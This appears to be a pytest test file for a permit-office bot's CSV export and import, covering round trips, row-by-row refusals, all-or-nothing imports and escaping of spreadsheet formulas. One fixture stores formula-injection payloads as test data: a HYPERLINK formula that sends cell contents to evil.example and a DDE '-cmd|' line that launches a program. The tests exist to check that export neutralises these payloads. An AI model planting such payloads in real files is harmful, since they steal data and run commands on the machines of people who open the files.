"""CSV export and import: exact files, a lossless round trip, refusals by row, all-or-nothing."""

from __future__ import annotations

import csv
import io
import os
from collections.abc import AsyncIterator
from datetime import date
from pathlib import Path

import pytest

from bot.cli import data as data_cli
from bot.runtime.instance import InstanceLock
from bot.views.import_report import render_plan
from office.settings import Settings
from storage.access_codes import verify_access_code
from storage.engines import is_postgres
from storage.exchange import (
    ApplicationUpdate,
    FileProblem,
    ImportFileRejected,
    ImportNotReady,
    ImportStale,
    Reason,
    Refusal,
    apply_import,
    decode_csv,
    export_applications,
    export_history,
    plan_import,
)
from storage.periods import Period
from storage.store import Store
from storage.workflow import Action
from tests.conftest import FakeClock

STAFF = 7
CHAT = 555
HEADER = ("number,permit_type,applicant_name,contact,stage,stage_entered_at,created_at,"
          "updated_at,due_at,decided_at")


@pytest.fixture
async def empty_store(settings: Settings, clock: FakeClock) -> AsyncIterator[Store]:
    """A second fresh store, the destination of an import."""
    opened = await Store.open(":memory:", settings.catalogue(), settings.calendar(),
                              prefix=settings.office.registration_prefix, clock=clock)
    yield opened
    await opened.close()


def csv_of(*lines: str) -> str:
    """A CSV as a spreadsheet saves it."""
    return "".join(f"{line}\r\n" for line in lines)


async def count(store: Store, table: str) -> int:
    """Rows in a table."""
    return int(await store.database.fetch_value(f"SELECT COUNT(*) FROM {table}"))


async def office_history(store: Store, clock: FakeClock) -> None:
    """A small office with every kind of step, odd characters and sub-second times."""
    change = store.applications.change
    pbg, _ = await store.applications.create(
        "PBG", 'Ni Luh Putu "Ayu", S.T.', staff_id=STAFF, contact="+62 812-3456-7890")
    clock.advance(hours=1, seconds=0.73)
    sip, _ = await store.applications.create("SIP", "dr. Gede Ärzte", staff_id=STAFF)
    reklame, _ = await store.applications.create("REKLAME", "CV Maju; Jaya", staff_id=STAFF,
                                                 contact="maju@example.com")
    foreign, _ = await store.applications.create("TDUP", "Komang Sari", staff_id=STAFF,
                                                 number="dpm 2025 42")
    clock.advance(days=1, seconds=12.5)
    await change(pbg.number, Action.ADVANCE, staff_id=STAFF)
    await change(pbg.number, Action.RETURN, staff_id=STAFF,
                 public_note="Gambar denah belum ada,\nmohon dilengkapi",
                 internal_note="cek \"IMB\" lama")
    clock.advance(days=2, seconds=0.4)
    await change(pbg.number, Action.ADVANCE, staff_id=None)
    await change(pbg.number, Action.NOTE, staff_id=STAFF, public_note="Survei hari Kamis")
    while (await store.applications.get(sip.number)).stage != "issued":
        clock.advance(hours=5, seconds=0.9)
        await change(sip.number, Action.ADVANCE, staff_id=STAFF)
    await change(reklame.number, Action.REJECT, staff_id=STAFF,
                 public_note="Lokasi tidak sesuai")
    await change(foreign.number, Action.WITHDRAW, staff_id=STAFF, public_note="Batal")


async def test_export_writes_a_bom_iso_dates_in_office_time_and_crlf(store: Store,
                                                                       clock: FakeClock) -> None:
    application, _ = await store.applications.create("PBG", "I Wayan Sudarma", staff_id=STAFF,
                                                     contact="0812 3456 7890")
    clock.advance(hours=2, seconds=0.6)
    await store.applications.change(application.number, Action.ADVANCE, staff_id=STAFF,
                                    public_note="Berkas lengkap, lanjut")

    applications = await export_applications(store)
    history = await export_history(store)

    assert applications.text == (
        f"\ufeff{HEADER}\r\n"
        "JBR-2026-000001,PBG,I Wayan Sudarma,0812 3456 7890,document_check,"
        "2026-11-02T11:00:00+08:00,2026-11-02T09:00:00+08:00,2026-11-02T11:00:00+08:00,"
        "2026-12-01T23:59:59+08:00,\r\n")
    assert history.text == (
        "\ufeffnumber,at,action,from_stage,to_stage,public_note,internal_note,staff_id\r\n"
        "JBR-2026-000001,2026-11-02T09:00:00+08:00,create,,received,,,7\r\n"
        'JBR-2026-000001,2026-11-02T11:00:00+08:00,advance,received,document_check,'
        '"Berkas lengkap, lanjut",,7\r\n')
    assert (applications.name, applications.rows, history.name, history.rows) == (
        "applications.csv", 1, "history.csv", 2)
    assert applications.data.startswith(b"\xef\xbb\xbfnumber,")


async def test_export_of_a_period_holds_the_applications_received_in_it(
        store: Store, clock: FakeClock) -> None:
    await store.applications.create("PBG", "Sebelum", staff_id=STAFF)
    clock.advance(days=1)
    await store.applications.create("PBG", "Selama", staff_id=STAFF)
    clock.advance(days=1)
    await store.applications.create("PBG", "Sesudah", staff_id=STAFF)

    third = Period(date(2026, 11, 3), date(2026, 11, 3), store.calendar.timezone)
    exported = await export_applications(store, third)
    steps = await export_history(store, third)

    assert exported.rows == 1
    assert ",Selama," in exported.text
    assert steps.rows == 1
    assert "JBR-2026-000002" in steps.text


async def test_export_then_import_into_an_empty_database_then_export_is_identical(
        store: Store, empty_store: Store, clock: FakeClock) -> None:
    await office_history(store, clock)
    applications, history = await export_applications(store), await export_history(store)

    plan = await plan_import(empty_store, applications.text, history.text)
    assert (len(plan.created), len(plan.changed), plan.refusals) == (4, 0, ())
    result = await apply_import(empty_store, plan, staff_id=None)

    assert (result.created, result.changed, result.notified) == (4, 0, 0)
    assert (await export_applications(empty_store)).data == applications.data
    assert (await export_history(empty_store)).data == history.data


async def test_the_round_trip_holds_through_the_command_line(
        database_target: str, clock: FakeClock, settings: Settings, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    # From a SQLite file into another one, and (with a test server) into PostgreSQL: the way
    # an office moves to a server.
    source = settings.model_copy(update={"database": settings.database.model_copy(
        update={"path": tmp_path / "source.db"})})
    target = settings.model_copy(update={"database": settings.database.model_copy(
        update={"url": database_target} if is_postgres(database_target)
        else {"path": tmp_path / "target.db"})})
    filled = await Store.open(source.database.path, settings.catalogue(), settings.calendar(),
                              clock=clock)
    await office_history(filled, clock)
    await filled.close()

    assert await data_cli.export_command(source, tmp_path / "first", []) == 0
    assert await data_cli.import_command(target, tmp_path / "first", False) == 0
    assert "dry run only" in capsys.readouterr().out
    assert await data_cli.import_command(target, tmp_path / "first", True) == 0
    assert await data_cli.export_command(target, tmp_path / "second", []) == 0

    for name in ("applications.csv", "history.csv"):
        first = (tmp_path / "first" / name).read_bytes()
        assert (tmp_path / "second" / name).read_bytes() == first


async def test_the_command_line_exports_the_periods_stats_takes(
        clock: FakeClock, settings: Settings, tmp_path: Path,
        capsys: pytest.CaptureFixture[str]) -> None:
    configured = settings.model_copy(update={"database": settings.database.model_copy(
        update={"path": tmp_path / "office.db"})})
    filled = await Store.open(configured.database.path, settings.catalogue(),
                              settings.calendar(), clock=clock)
    await filled.applications.create("PBG", "Made Satu", staff_id=STAFF)
    await filled.close()
    received = clock.now.astimezone(settings.office.zone)

    month, year = f"{received:%Y-%m}", f"{received.year - 1}"
    assert await data_cli.export_command(configured, tmp_path / "month", [month]) == 0
    assert await data_cli.export_command(configured, tmp_path / "year", [year]) == 0
    assert await data_cli.export_command(configured, tmp_path / "bad", ["2026-13"]) == 2

    assert ",Made Satu," in (tmp_path / "month" / "applications.csv").read_text("utf-8-sig")
    assert "Made Satu" not in (tmp_path / "year" / "applications.csv").read_text("utf-8-sig")
    assert not (tmp_path / "bad").exists()
    assert capsys.readouterr().err.endswith(
        "export: the period is YYYY-MM, YYYY or two dates YYYY-MM-DD (from, to), "
        "not '2026-13'\n")


async def test_imported_applications_keep_their_numbers_and_get_fresh_access_codes(
        empty_store: Store) -> None:
    plan = await plan_import(empty_store, csv_of(
        "number,permit_type,applicant_name,contact,stage",
        "jbr 2026 41,PBG,Made Satu,,received",
        "JBR-2026-000040,SIP,Made Dua,0361 123,document_check"))
    await apply_import(empty_store, plan, staff_id=STAFF)

    first = await empty_store.applications.get("JBR-2026-000041")
    second = await empty_store.applications.get("JBR-2026-000040")
    hashes = [await empty_store.database.fetch_value(
        "SELECT access_code_hash FROM applications WHERE id = ?", (a.id,))
        for a in (first, second)]
    assert hashes[0] != hashes[1]
    assert not any(verify_access_code("000000", stored) for stored in hashes)
    fresh, _ = await empty_store.applications.create("PBG", "Made Tiga", staff_id=STAFF)
    assert fresh.number == "JBR-2026-000042"
    assert [(e.action, e.from_stage, e.to_stage, e.staff_id)
            for e in await empty_store.applications.history(second.id)] == [
        ("import", None, "document_check", STAFF)]


async def test_missing_dates_are_filled_in_as_if_registered_now(empty_store: Store,
                                                                 clock: FakeClock) -> None:
    plan = await plan_import(empty_store, csv_of(
        "number,permit_type,applicant_name,stage,created_at",
        "JBR-2026-000005,SIP,Made Lima,issued,2026-10-01",
        "JBR-2026-000006,SIP,Made Enam,received,"))
    await apply_import(empty_store, plan, staff_id=STAFF)

    issued = await empty_store.applications.get("JBR-2026-000005")
    waiting = await empty_store.applications.get("JBR-2026-000006")
    assert issued.created_at.isoformat() == "2026-09-30T16:00:00+00:00"
    assert issued.decided_at == issued.stage_entered_at == issued.created_at
    assert waiting.created_at == clock.now
    assert waiting.decided_at is None
    assert waiting.due_at == empty_store.calendar.add_working_days(clock.now, 7)


async def test_the_dry_run_reports_each_refusal_with_its_row(store: Store) -> None:
    plan = await plan_import(store, csv_of(
        "Number,Permit_Type,Applicant_Name,Contact,Stage,Created_At,Decided_At",
        "JBR-2026-000101,PBG,Made Baik,,received,,",
        "JBR-2026-000102,XYZ,Made Jenis,,received,,",
        "JBR-2026-000103,SIP,Made Tahap,,field_inspection,,",
        "JBR-2026-000104,PBG,  ,,received,,",
        f"JBR-2026-000105,PBG,{'A' * 201},,received,,",
        "JBR-2026-000101,PBG,Made Ganda,,received,,",
        "nomor-salah,PBG,Made Nomor,,received,,",
        "JBR-2026-000108,PBG,Made Tanggal,,received,02/11/2026,",
        "JBR-2026-000109,PBG,Made Terbuka,,received,,2026-11-01",
        ",,,,,,",
        f"JBR-2026-000111,PBG,Made Kontak,{'9' * 101},received,,"))

    assert plan.refusals == (
        Refusal(3, Reason.PERMIT_TYPE, "XYZ"),
        Refusal(4, Reason.STAGE, "field_inspection", "SIP"),
        Refusal(5, Reason.NAME_MISSING, "", "200"),
        Refusal(6, Reason.NAME_TOO_LONG, "", "200"),
        Refusal(7, Reason.DUPLICATE, "JBR-2026-000101", "2"),
        Refusal(8, Reason.NUMBER, "nomor-salah"),
        Refusal(9, Reason.DATE, "02/11/2026", "created_at"),
        Refusal(10, Reason.DECIDED_OPEN, "2026-11-01", "received"),
        Refusal(12, Reason.CONTACT_TOO_LONG, "", "100"),
    )
    assert (plan.rows, len(plan.created), plan.refused, plan.ready) == (10, 1, 9, False)
    assert render_plan(plan, "en", "office.csv") == "\n".join([
        "📥 <b>Import dry run</b> · office.csv",
        "Rows: 10",
        "New applications: <b>1</b>",
        "Changed: <b>0</b> (stage changes: 0; followers are told)",
        "Unchanged: 0",
        "Refused: <b>9</b>",
        "",
        "<b>Refused rows</b> (numbered as in a spreadsheet; the header is row 1):",
        "• row 3: unknown permit type «XYZ»",
        "• row 4: unknown stage «field_inspection» for SIP",
        "• row 5: applicant name missing",
        "• row 6: applicant name longer than 200 characters",
        "• row 7: number JBR-2026-000101 already appears in row 2",
        "• row 8: malformed number «nomor-salah»",
        "• row 9: bad date in created_at: «02/11/2026» (write e.g. 2026-11-02T09:00:00+08:00)",
        "• row 10: decided_at «2026-11-01» is set, but stage received is not a decision",
        "• row 12: contact longer than 100 characters",
        "",
        "Nothing was imported: an import goes in whole or not at all. Fix these rows and send "
        "the file again.",
    ])


async def test_a_refusal_quotes_only_the_start_of_a_long_cell(store: Store) -> None:
    plan = await plan_import(store, csv_of("number,permit_type,applicant_name,stage",
                                           f"JBR-2026-000001,{'X' * 500},Made,received"))
    assert plan.refusals == (Refusal(2, Reason.PERMIT_TYPE, "X" * 39 + "…"),)


async def test_history_rows_are_checked_against_the_applications_file(store: Store) -> None:
    plan = await plan_import(store, csv_of(
        "number,permit_type,applicant_name,stage",
        "JBR-2026-000001,SIP,Made Satu,document_check"), csv_of(
        "number,at,action,from_stage,to_stage,public_note,internal_note,staff_id",
        "JBR-2026-000001,2026-11-02T09:00:00+08:00,create,,received,,,7",
        "JBR-2026-000001,2026-11-03,advance,received,site_visit,,,x7",
        "JBR-2026-000002,,,,received,,,"))

    assert plan.refusals == (
        Refusal(3, Reason.STAGE, "site_visit", "SIP", "history.csv"),
        Refusal(3, Reason.STAFF_ID, "x7", "", "history.csv"),
        Refusal(4, Reason.UNKNOWN_NUMBER, "JBR-2026-000002", "", "history.csv"),
        Refusal(4, Reason.DATE, "", "at", "history.csv"),
        Refusal(4, Reason.ACTION, "", "", "history.csv"),
    )
    assert plan.refused == 2
    assert "• history.csv row 3: unknown stage «site_visit» for SIP" in render_plan(
        plan, "en", "applications.csv")


async def test_a_plan_with_a_refused_row_applies_nothing(store: Store) -> None:
    plan = await plan_import(store, csv_of(
        "number,permit_type,applicant_name,stage",
        "JBR-2026-000001,PBG,Made Baik,received",
        "JBR-2026-000002,PBG,Made Buruk,nowhere"))

    with pytest.raises(ImportNotReady):
        await apply_import(store, plan, staff_id=STAFF)
    assert await count(store, "applications") == 0


async def test_the_command_line_refuses_a_file_with_one_bad_row_even_with_yes(
        settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    configured = settings.model_copy(update={"database": settings.database.model_copy(
        update={"path": tmp_path / "office.db"})})
    upload = tmp_path / "import.csv"
    upload.write_text(csv_of("number,permit_type,applicant_name,stage",
                             "JBR-2026-000001,PBG,Made Baik,received",
                             "JBR-2026-000002,PBG,Made Buruk,nowhere"), encoding="utf-8")

    assert await data_cli.import_command(configured, upload, True) == 1

    out = capsys.readouterr().out
    assert "• baris 3: tahap «nowhere» tidak dikenal untuk PBG" in out
    assert "Tidak ada yang diimpor" in out
    reopened = await Store.open(tmp_path / "office.db", settings.catalogue(), settings.calendar())
    assert await count(reopened, "applications") == 0
    await reopened.close()


async def test_a_change_after_the_dry_run_makes_the_whole_import_stale(
        store: Store) -> None:
    existing, _ = await store.applications.create("PBG", "Made Lama", staff_id=STAFF)
    plan = await plan_import(store, csv_of(
        "number,permit_type,applicant_name,stage",
        "JBR-2026-000050,PBG,Made Baru,received",
        f"{existing.number},PBG,Made Lama,field_inspection"))
    await store.applications.change(existing.number, Action.ADVANCE, staff_id=STAFF)
    before = await count(store, "history")

    with pytest.raises(ImportStale) as stale:
        await apply_import(store, plan, staff_id=STAFF)

    assert stale.value.number == existing.number
    assert await count(store, "applications") == 1
    assert await count(store, "history") == before


async def test_an_imported_stage_change_is_recorded_and_told_to_followers(
        store: Store, clock: FakeClock) -> None:
    application, _ = await store.applications.create("PBG", "Made Ikut", staff_id=STAFF,
                                                     contact="0812")
    await store.followers.follow(application, CHAT, 20)
    clock.advance(hours=3)

    plan = await plan_import(store, csv_of(
        "number,permit_type,applicant_name,contact,stage",
        f"{application.number},pbg,Made Ikut,0812,Field_Inspection"))
    assert [(u.current.number, u.stage, u.moves) for u in plan.changed] == [
        (application.number, "field_inspection", True)]
    result = await apply_import(store, plan, staff_id=STAFF)

    moved = await store.applications.get(application.number)
    entry = (await store.applications.history(application.id))[-1]
    queued = await store.database.fetch_all("SELECT chat_id, kind, history_id, status FROM outbox")
    audit = await store.audit.for_application(application.id)
    assert result.notified == 1
    assert (moved.stage, moved.stage_entered_at, moved.version) == (
        "field_inspection", clock.now, 2)
    assert (entry.action, entry.from_stage, entry.to_stage, entry.staff_id, entry.at) == (
        "import", "received", "field_inspection", STAFF, clock.now)
    assert [tuple(row) for row in queued] == [(CHAT, "change", entry.id, "pending")]
    assert audit[-1].action == "import"


async def test_an_existing_application_counts_as_changed_only_when_something_differs(
        store: Store) -> None:
    application, _ = await store.applications.create("PBG", "Made Sama", staff_id=STAFF,
                                                     contact="0812")
    same = await plan_import(store, csv_of(
        "number,permit_type,applicant_name,contact,stage,created_at",
        f"{application.number},PBG,Made  Sama ,0812,received,2020-01-01"))
    renamed = await plan_import(store, csv_of(
        "number,permit_type,applicant_name,contact,stage",
        f"{application.number},PBG,Made Sama Sekali,0812,received"))
    retyped = await plan_import(store, csv_of(
        "number,permit_type,applicant_name,contact,stage",
        f"{application.number},SIP,Made Sama,0812,received"))

    assert (same.unchanged, same.changed, same.ready) == (1, (), False)
    assert renamed.changed == (ApplicationUpdate(2, application, "Made Sama Sekali", "0812",
                                                 "received"),)
    assert retyped.refusals == (Refusal(2, Reason.PERMIT_TYPE_CHANGED, "SIP", "PBG"),)
    await apply_import(store, renamed, staff_id=STAFF)
    assert (await store.applications.get(application.number)).applicant_name == (
        "Made Sama Sekali")
    assert await count(store, "history") == 1
    assert await count(store, "outbox") == 0


async def test_a_semicolon_separated_file_with_a_bom_is_read(store: Store) -> None:
    text = decode_csv("\ufeffnumber;permit_type;applicant_name;stage\r\n"
                      "JBR-2026-000001;PBG;Made, Koma;received\r\n".encode())
    plan = await plan_import(store, text)
    assert [(new.number, new.applicant_name) for new in plan.created] == [
        ("JBR-2026-000001", "Made, Koma")]


@pytest.mark.parametrize(("data", "problem", "detail"), [
    (b"number,permit_type\r\nJBR-2026-000001,PBG\r\n", FileProblem.MISSING_COLUMNS,
     "applicant_name, stage"),
    ("number,permit_type,applicant_name,stage\r\n1,PBG,Bé,received\r\n".encode("latin-1"),
     FileProblem.NOT_UTF8, ""),
    (b"\r\n\r\n", FileProblem.EMPTY, ""),
])
async def test_a_file_that_cannot_be_read_is_rejected_whole(
        store: Store, data: bytes, problem: FileProblem, detail: str) -> None:
    with pytest.raises(ImportFileRejected) as rejected:
        await plan_import(store, decode_csv(data))
    assert (rejected.value.problem, rejected.value.detail) == (problem, detail)


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def spreadsheet_cells(text: str) -> list[str]:
    """Every cell as a spreadsheet program splits the file (quotes removed, BOM dropped)."""
    reader = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    return [cell for record in reader for cell in record]


async def risky_office(store: Store, clock: FakeClock) -> None:
    """Cells a spreadsheet would run as formulas, next to the office's ordinary phone numbers."""
    change = store.applications.change
    first, _ = await store.applications.create(
        "PBG", '=HYPERLINK("http://evil.example/?x="&A1,"klik")', staff_id=STAFF,
        contact="+62 812-3456-7890")
    second, _ = await store.applications.create("SIP", "@SUM(1+1)", staff_id=STAFF,
                                                contact="-5")
    third, _ = await store.applications.create("REKLAME", "'=sudah dikutip", staff_id=STAFF,
                                               contact="''+62 811")
    clock.advance(hours=1)
    await change(first.number, Action.RETURN, staff_id=STAFF, public_note="-cmd|' /C calc'!A0",
                 internal_note="+1 lihat catatan")
    await change(second.number, Action.NOTE, staff_id=STAFF, public_note="=1+1",
                 internal_note="'Ali, bukan rumus")
    await change(third.number, Action.NOTE, staff_id=STAFF, public_note="@kepala kantor")


async def test_export_quotes_every_cell_a_spreadsheet_would_run_as_a_formula(
        store: Store, clock: FakeClock) -> None:
    await risky_office(store, clock)
    # Values the bot itself strips, written as another tool might have left them.
    async with store.database.transaction() as conn:
        await conn.execute("UPDATE history SET internal_note = ? WHERE id = 1", ("\t=1+1",))
        await conn.execute("UPDATE history SET internal_note = ? WHERE id = 2", ("\r=1+1",))

    applications, history = await export_applications(store), await export_history(store)

    cells = spreadsheet_cells(applications.text) + spreadsheet_cells(history.text)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []
    assert "'+62 812-3456-7890" in cells
    assert "'-5" in cells
    assert """'=HYPERLINK("http://evil.example/?x="&A1,"klik")""" in cells
    assert "'@SUM(1+1)" in cells
    assert "''=sudah dikutip" in cells
    assert "'''+62 811" in cells
    assert "'-cmd|' /C calc'!A0" in cells
    assert "'\t=1+1" in cells
    assert "'\r=1+1" in cells
    # A quote before anything harmless is the value itself, left alone.
    assert "'Ali, bukan rumus" in cells


async def test_quoted_cells_import_as_exactly_what_was_stored_and_export_identically(
        store: Store, empty_store: Store, clock: FakeClock) -> None:
    await risky_office(store, clock)
    applications, history = await export_applications(store), await export_history(store)

    plan = await plan_import(empty_store, applications.text, history.text)
    assert plan.refusals == ()
    await apply_import(empty_store, plan, staff_id=None)

    for number in ("JBR-2026-000001", "JBR-2026-000002", "JBR-2026-000003"):
        before = await store.applications.get(number)
        after = await empty_store.applications.get(number)
        assert (after.applicant_name, after.contact) == (before.applicant_name, before.contact)
        notes = [(s.public_note, s.internal_note)
                 for s in await store.applications.history(before.id)]
        assert [(s.public_note, s.internal_note)
                for s in await empty_store.applications.history(after.id)] == notes
    assert (await export_applications(empty_store)).data == applications.data
    assert (await export_history(empty_store)).data == history.data
    # Imported again over itself, nothing differs.
    again = await plan_import(empty_store, applications.text, history.text)
    assert (len(again.created), len(again.changed), again.unchanged) == (0, 0, 3)


async def test_a_hand_made_file_with_plain_phone_numbers_imports_them_as_they_are(
        empty_store: Store) -> None:
    plan = await plan_import(empty_store, csv_of(
        "number,permit_type,applicant_name,contact,stage",
        "JBR-2026-000010,PBG,Wayan,+62 812 1111,received",
        "JBR-2026-000011,PBG,Made,'+62 812 2222,received"))
    await apply_import(empty_store, plan, staff_id=None)

    assert (await empty_store.applications.get("JBR-2026-000010")).contact == "+62 812 1111"
    # A quote a spreadsheet user typed to keep the number as text is not part of it.
    assert (await empty_store.applications.get("JBR-2026-000011")).contact == "+62 812 2222"


async def test_an_import_may_not_take_the_top_of_this_years_numbers(
        store: Store, empty_store: Store) -> None:
    await store.applications.create("PBG", "Sudah Ada", staff_id=STAFF)
    # An older database may already hold such a number; seeing it again is no new reservation.
    async with store.database.transaction() as conn:
        await conn.execute("UPDATE applications SET number = 'JBR-2026-950000'")
    plan = await plan_import(store, csv_of(
        "number,permit_type,applicant_name,stage",
        "JBR-2026-899999,PBG,Made Batas,received",
        "JBR-2026-900000,PBG,Made Lewat,received",
        "JBR 2027 999999,PBG,Made Tahun Depan,received",
        "JBR-2025-999999,PBG,Made Tahun Lalu,received",
        "DPS-2026-999999,PBG,Made Kantor Lain,received",
        "JBR-2026-950000,PBG,Sudah Ada,received"))

    assert plan.refusals == (
        Refusal(3, Reason.NUMBER_TOO_HIGH, "JBR-2026-900000", "899999"),
        Refusal(4, Reason.NUMBER_TOO_HIGH, "JBR-2027-999999", "899999"),
    )
    assert render_plan(plan, "en", "office.csv").splitlines()[8:10] == [
        "• row 3: number JBR-2026-900000 is too high: numbers above 899999 for this year and "
        "later are kept for new registrations with /new",
        "• row 4: number JBR-2027-999999 is too high: numbers above 899999 for this year and "
        "later are kept for new registrations with /new",
    ]


async def test_after_an_import_at_the_ceiling_new_numbers_still_have_six_digits(
        empty_store: Store) -> None:
    plan = await plan_import(empty_store, csv_of(
        "number,permit_type,applicant_name,stage",
        "JBR-2026-899999,PBG,Made Batas,received",
        "JBR-2025-999999,PBG,Made Tahun Lalu,received"))
    await apply_import(empty_store, plan, staff_id=None)

    created, _ = await empty_store.applications.create("PBG", "Made Baru", staff_id=STAFF)

    assert created.number == "JBR-2026-900000"
    assert (await empty_store.applications.get("jbr 2026 900000")).id == created.id


async def test_the_command_line_applies_no_import_while_the_bot_holds_the_database(
        settings: Settings, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    configured = settings.model_copy(update={"database": settings.database.model_copy(
        update={"path": tmp_path / "live.db"})})
    source = tmp_path / "office.csv"
    source.write_text(csv_of("number,permit_type,applicant_name,stage",
                             "JBR-2026-000010,PBG,Made Impor,received"))

    with InstanceLock(tmp_path / "live.db"):
        assert await data_cli.import_command(configured, source, False) == 0
        assert "dry run only" in capsys.readouterr().out
        assert await data_cli.import_command(configured, source, True) == 3

    assert capsys.readouterr().err == (
        f"etracking: import: another etracking (pid {os.getpid()}) is already running on "
        f"{tmp_path / 'live.db'}; stop the bot first, or send the file to the bot with the "
        "caption /import (a dry run without --yes works while it runs)\n")
    opened = await Store.open(tmp_path / "live.db", settings.catalogue(), settings.calendar())
    try:
        assert await count(opened, "applications") == 0
    finally:
        await opened.close()
    # Once the bot is stopped, the same command applies it.
    assert await data_cli.import_command(configured, source, True) == 0
